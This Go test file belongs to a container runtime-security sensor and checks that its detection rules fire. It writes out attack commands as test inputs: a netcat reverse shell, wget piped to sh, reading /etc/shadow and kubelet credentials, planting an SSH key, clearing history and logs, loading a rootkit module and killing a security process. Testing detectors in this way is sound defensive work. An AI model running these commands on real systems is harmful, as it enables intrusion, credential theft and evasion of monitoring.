package probe

import (
	"context"
	"testing"
	"time"

	"github.com/bulwark-security/bulwark/internal/rules"
	"github.com/bulwark-security/bulwark/internal/sensor/probe/runctest"
)

// notFromKernel are default runtime rules no action in a container can fire
// through this package alone, and why. TestDefaultRulesFireInContainer fails
// when a default rule is neither in its table nor here.
var notFromKernel = map[string]string{
	"Privileged command in container": "needs container.privileged, which the enrichment pipeline (CRI/Kubernetes) fills, not the kernel",
}

// TestDefaultRulesFireInContainer performs each default runtime rule's
// triggering action inside a real runc container and asserts the rule
// matched an event the kernel reported with that container's id. Where
// busybox lacks the real tool (a miner, nmap, socat), a copy of busybox
// under that name stands in: the rules key on the executable's name and
// command line, which is what the kernel reports.
func TestDefaultRulesFireInContainer(t *testing.T) {
	needKernel(t, true)
	eng := defaultEngine(t)
	p := load(t, Config{})
	c := runctest.Start(t, runctest.Options{Files: map[string]string{
		// A fake web server: a script named nginx that runs a shell, as a
		// web shell does (comm of a script is the script's name).
		"/usr/sbin/nginx": "#!/bin/sh\n/bin/sh -c 'id' >/dev/null\n",
	}})
	col := collect(t, p, eng, inContainer(c.ID))
	ctx := context.Background()
	if _, err := c.Sh(ctx, "ip link set lo up"); err != nil {
		t.Fatal(err)
	}

	cases := []struct {
		rule, script string
	}{
		{"Reverse shell", "nc -l -p 4444 >/dev/null & sleep 0.3; nc 127.0.0.1 4444 -e /bin/echo pwned; wait"},
		{"Crypto miner process", "/bin/echo -o stratum+tcp://pool.example.com:3333 -u wallet"},
		{"Connection to crypto mining pool port", "nc -w 1 203.0.113.10 3333 </dev/null; true"},
		{"Download and run", "sh -c 'wget -q -T 1 -O - http://127.0.0.1:1/x.sh | sh'; true"},
		{"Reconnaissance tool run", "mkdir -p /opt/r && cp /bin/busybox /opt/r/nmap && /opt/r/nmap -sS 10.0.0.0/24; true"},
		{"Shell history cleared", "echo ls > /root/.ash_history && rm /root/.ash_history"},
		{"Log files tampered", "rm /var/log/app.log"},
		{"User account created or password changed", "passwd -d root"},
		{"SSH server in container", "timeout 1 nc -l -p 22 </dev/null; true"},
		{"Kubelet credentials accessed", "cat /var/lib/kubelet/kubeconfig >/dev/null"},
		{"SSH authorized_keys modified", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys"},
		{"Shadow file accessed", "cat /etc/shadow >/dev/null"},
		{"Cloud metadata service contacted", "nc -w 1 169.254.169.254 80 </dev/null; true"},
		{"Namespace change from container", "unshare -n true; true"},
		{"Web shell", "/usr/sbin/nginx"},
		{"Kernel module loaded", "/bin/insmod /tmp/rootkit.ko; true"},
		{"Timestamp tampering", "/bin/touch -d '2020-01-01 00:00' /tmp/ts"},
		{"Security process terminated", "/bin/killall falco; true"},
		{"Port forwarding", "mkdir -p /opt/p && cp /bin/busybox /opt/p/socat && /opt/p/socat TCP-LISTEN:8080,fork TCP:198.51.100.7:80; true"},
		{"Test alert", "cp /bin/echo /tmp/asc_alerttest_662jfi039n && /tmp/asc_alerttest_662jfi039n testing eicar pipe; true"},
		{"Drift - executable not in image", "cp /bin/busybox /tmp/true && /tmp/true"},
	}
	covered := map[string]bool{}
	for _, tc := range cases {
		covered[tc.rule] = true
		t.Run(tc.rule, func(t *testing.T) {
			r, err := c.Sh(ctx, tc.script)
			if err != nil {
				t.Fatalf("%s: %v", tc.script, err)
			}
			s := col.wait(t, tc.rule, 5*time.Second, func(s *seen) bool { return hasRule(s, tc.rule) })
			if s == nil {
				t.Logf("script output: %+v", r)
				return
			}
			if s.ev.Container.ID != c.ID {
				t.Errorf("container id %q, want %q", s.ev.Container.ID, c.ID)
			}
		})
	}
	for _, r := range eng.Rules() {
		if r.Source != rules.SourceSyscall {
			continue
		}
		if !covered[r.Name] && notFromKernel[r.Name] == "" {
			t.Errorf("default rule %q has no container action in this table and no reason in notFromKernel", r.Name)
		}
	}
}

// TestKernelEventsInContainer checks events no default rule uses but the
// issue asks for: chmod +x, listen, unshare flags, setuid.
func TestKernelEventsInContainer(t *testing.T) {
	needKernel(t, true)
	p := load(t, Config{})
	c := runctest.Start(t, runctest.Options{Caps: []string{"CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SETUID", "CAP_SETGID"}})
	col := collect(t, p, nil, inContainer(c.ID))
	ctx := context.Background()
	if _, err := c.Sh(ctx, "ip link set lo up; echo x > /tmp/f; chmod 644 /tmp/f; chmod +x /tmp/f; timeout 1 nc -l -p 8080 </dev/null; unshare -n -m true; /bin/su -s /bin/true nobody; true"); err != nil {
		t.Fatal(err)
	}
	if s := col.wait(t, "chmod +x", 5*time.Second, func(s *seen) bool {
		return (s.ev.Type == rules.EventFchmodat || s.ev.Type == rules.EventChmod) && s.ev.FD.Name == "/tmp/f"
	}); s != nil {
		if s.ev.FD.Name != "/tmp/f" || s.ev.Args.Mode&0o111 == 0 {
			t.Errorf("chmod event: name %q mode %o", s.ev.FD.Name, s.ev.Args.Mode)
		}
	}
	// chmod 644 grants no execute: filtered in the kernel.
	col.mu.Lock()
	for _, s := range col.evs {
		if (s.ev.Type == rules.EventFchmodat || s.ev.Type == rules.EventChmod) && s.ev.FD.Name == "/tmp/f" && s.ev.Args.Mode&0o111 == 0 {
			t.Errorf("chmod without +x reported: %o", s.ev.Args.Mode)
		}
	}
	col.mu.Unlock()
	if s := col.wait(t, "listen", 5*time.Second, func(s *seen) bool { return s.ev.Type == rules.EventListen }); s != nil {
		if s.ev.FD.SPort != 8080 || s.ev.FD.L4Proto != "tcp" || s.ev.FD.TypeChar == 0 {
			t.Errorf("listen event: %+v", s.ev.FD)
		}
	}
	const cloneNewNS, cloneNewNet = 0x20000, 0x40000000
	if s := col.wait(t, "unshare", 5*time.Second, func(s *seen) bool { return s.ev.Type == rules.EventUnshare }); s != nil {
		if s.ev.Args.Flags&(cloneNewNS|cloneNewNet) != cloneNewNS|cloneNewNet {
			t.Errorf("unshare flags %#x", s.ev.Args.Flags)
		}
	}
	if s := col.wait(t, "setuid family", 5*time.Second, func(s *seen) bool {
		return (s.ev.Type == rules.EventSetresuid || s.ev.Type == rules.EventSetuid) && s.ev.Proc.Name == "su"
	}); s != nil && s.ev.Args.UID != 65534 {
		t.Errorf("setuid uid %d, want 65534", s.ev.Args.UID)
	}
}
